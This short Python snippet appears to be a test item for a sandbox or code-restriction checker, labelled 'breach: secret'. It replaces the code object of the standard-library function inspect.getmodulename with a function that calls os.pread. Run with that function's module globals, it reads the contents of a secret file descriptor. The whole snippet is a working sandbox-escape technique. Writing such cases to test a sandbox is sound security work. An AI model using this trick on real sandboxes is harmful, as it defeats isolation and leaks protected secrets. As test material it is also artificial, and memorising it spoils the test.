# A function of the standard library is given other code and runs it with its globals.
# breach: secret
import inspect
def other(number):
    return os.pread(number, 100, 0)
inspect.getmodulename.__code__ = other.__code__
inspect.getmodulename(SECRET_FD)
